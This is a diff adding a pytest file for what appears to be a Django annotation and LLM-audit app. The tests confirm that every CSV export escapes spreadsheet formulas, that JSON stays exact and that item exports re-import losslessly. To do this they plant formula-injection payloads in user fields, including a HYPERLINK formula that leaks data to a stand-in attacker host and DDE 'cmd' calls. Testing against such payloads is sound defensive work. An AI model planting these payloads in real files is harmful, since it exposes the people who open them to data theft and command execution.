@@ -1,0 +1,157 @@
+"""No cell of any CSV export runs as a spreadsheet formula; JSON stays exact; an items export re-imports losslessly.
+
+Hostile text is put wherever people type it (item text and metadata, a rationale, a team, a study, endpoint,
+audit or model name, an upload's file name, a model's reply), then every GET operation of the API is read as
+CSV, and so is the admin's file of invite links.
+"""
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+import pytest
+from django.urls import URLPattern
+
+from annotation.models import Item, Label, Participant
+from annotation.services import items_import_file
+from auditapp import audit_services as services
+from auditapp.models import AuditModel, AuditRequest, LLMEndpoint, LLMReply
+from auditapp.self_report_services import self_report_audit_create
+from auditapp.urls import api_patterns
+from tests.auditapp.test_audit_dashboard_view import COMPLETED_PLAN, build_audit
+from tests.factories import make_study
+
+pytestmark = pytest.mark.django_db
+
+HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+TEXTS = {
+    "target": HYPERLINK,
+    "preceding": "+1+cmd|' /C calc'!A0",
+    "following": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "quoted": "'=already quoted by its author",
+    "apostrophe": "'Tis the season",
+    "padded": "  spaces around, kept  ",
+}
+ITEM_ROWS = [
+    ["id", "preceding", "sentence", "following", "source", "A1_Score"],
+    ["i1", TEXTS["preceding"], TEXTS["target"], TEXTS["following"], TEXTS["tab"], "1"],
+    ["i2", "", "replaced by text that really starts with a quote", "", "", "0"],
+    ["i3", "", TEXTS["apostrophe"], "", "-1", "1"],
+    ["-4", "", TEXTS["padded"], "", "", "0"],
+    ["i5", "", TEXTS["tab"], "", "", "0"],
+]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def item_file() -> bytes:
+    buffer = io.StringIO()
+    csv.writer(buffer, lineterminator="\n").writerows(ITEM_ROWS)
+    return buffer.getvalue().encode()
+
+
+@pytest.fixture
+def hostile(shipped_instruments, audit_tasks_off):
+    """A study and audits whose user-typed text all starts like a formula; the ids to put in API paths."""
+    study = make_study(name="=cmd|' /C calc'!A0")
+    imported = items_import_file(study=study, filename="-items.csv", content=item_file())
+    assert imported.status == "succeeded", imported.errors
+    # In a file, "'=" would be read as our escape; text that really starts so can come from JSON Lines.
+    Item.objects.filter(study=study, external_id="i2").update(target=TEXTS["quoted"])
+    Label.objects.filter(item__study=study).update(rationale=HYPERLINK)
+    Participant.objects.filter(study=study).update(team="@team")
+    Participant.objects.create(study=study, pseudonym="P0001", team="-invited team")
+    audit = build_audit(COMPLETED_PLAN, name="=audit")
+    AuditModel.objects.filter(audit=audit).update(label="-model")
+    AuditRequest.objects.filter(audit=audit, outcome="error").update(error="=error")
+    AuditRequest.objects.filter(audit=audit, outcome="label").update(explanation="+explanation")
+    LLMReply.objects.filter(key__in=AuditRequest.objects.filter(audit=audit).values("key")).update(text="@reply")
+    endpoint = LLMEndpoint.objects.create(name="=endpoint", base_url="http://127.0.0.1:9")
+    self_report = self_report_audit_create(name="=self report", instruments=[shipped_instruments["aq50"]],
+                                           models=[services.ModelChoice(endpoint=endpoint, model="=m")])
+    return {"study": study, "audit": audit, "self_report": self_report, "import": imported, "endpoint": endpoint}
+
+
+def csv_rows(response) -> list[list[str]]:
+    assert response.status_code == 200, response.content[:300]
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    return list(csv.reader(io.StringIO(body.decode("utf-8"))))
+
+
+def get_paths(ids: dict) -> list[str]:
+    """Every GET operation of the API, with the hostile objects' ids in its path."""
+    paths = []
+    for pattern in api_patterns:
+        assert isinstance(pattern, URLPattern)
+        route = str(pattern.pattern)
+        if route in ("schema/", "docs/", "redoc/") or "<str:action>" in route:
+            continue
+        if route.startswith("studies/<int:pk>"):
+            pk = ids["study"].id
+        elif route.startswith("imports/"):
+            pk = ids["import"].id
+        elif route.startswith("endpoints/<int:pk>/models/"):
+            continue  # it asks the endpoint's server for its models: nothing of ours to export
+        elif route.split("/")[-2] in ("answers", "scores", "validity"):
+            pk = ids["self_report"].id
+        else:
+            pk = ids["audit"].id
+        paths.append("/api/" + route.replace("<int:pk>", str(pk)))
+    return paths
+
+
+def runs_as_formula(cell: str) -> bool:
+    return cell.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(cell)
+
+
+def test_no_cell_of_any_csv_export_runs_as_a_formula(api_client, hostile):
+    paths = get_paths(hostile)
+    assert len(paths) >= 18
+    seen = set()
+    for path in paths:
+        for row in csv_rows(api_client.get(path, {"format": "csv"})):
+            assert not [cell for cell in row if runs_as_formula(cell)], path
+            seen.update(cell for cell in row if cell.startswith("'"))
+    assert {"'" + HYPERLINK, "'=cmd|' /C calc'!A0", "'@team", "'-model", "'=error", "'+explanation", "'@reply",
+            "'=endpoint", "'=audit", "'=self report", "'-items.csv", "'" + TEXTS["tab"], "''=already quoted by "
+            "its author"} <= seen
+
+
+def test_numbers_stay_numbers(api_client, hostile):
+    items = csv_rows(api_client.get(f"/api/studies/{hostile['study'].id}/items/?format=csv"))
+    assert [row[0] for row in items] == ["item", "i1", "i2", "i3", "-4", "i5"]
+    metrics = csv_rows(api_client.get(f"/api/audits/{hostile['audit'].id}/metrics/?format=csv"))
+    negative = [cell for row in metrics[1:] for cell in row if cell.startswith("-")]
+    assert negative and all(PLAIN_NUMBER.fullmatch(cell) for cell in negative)
+
+
+def test_the_admin_invite_links_are_neutralised(staff_client, hostile):
+    response = staff_client.get(f"/admin/annotation/study/{hostile['study'].id}/invite-links.csv")
+    rows = csv_rows(response)
+    assert rows[1][:2] == ["P0001", "'-invited team"]
+
+
+def test_json_exports_are_exact(api_client, hostile):
+    study = hostile["study"]
+    items = {r["item"]: r for r in api_client.get(f"/api/studies/{study.id}/items/").json()["results"]}
+    assert (items["i1"]["target"], items["i1"]["preceding"], items["i1"]["following"]) == (
+        TEXTS["target"], TEXTS["preceding"], TEXTS["following"])
+    assert items["i1"]["metadata"] == {"source": TEXTS["tab"]}
+    assert items["i2"]["target"] == TEXTS["quoted"] and items["-4"]["target"] == TEXTS["padded"]
+    labels = api_client.get(f"/api/studies/{study.id}/labels/").json()["results"]
+    assert {r["rationale"] for r in labels} == {HYPERLINK}
+    assert api_client.get("/api/audits/").json()["results"][-1]["name"] in ("=audit", "=self report")
+
+
+def test_an_items_export_re_imports_to_the_same_text(api_client, hostile):
+    study = hostile["study"]
+    exported = b"".join(api_client.get(f"/api/studies/{study.id}/items/?format=csv").streaming_content)
+    again = make_study()
+    result = items_import_file(study=again, filename="exported.csv", content=exported)
+    assert result.status == "succeeded", result.errors
+    fields = ("external_id", "target", "preceding", "following")
+    original = list(Item.objects.filter(study=study).order_by("position").values_list(*fields))
+    assert list(Item.objects.filter(study=again).order_by("position").values_list(*fields)) == original
+    assert ("i5", TEXTS["tab"], "", "") in original and ("i3", TEXTS["apostrophe"], "", "") in original
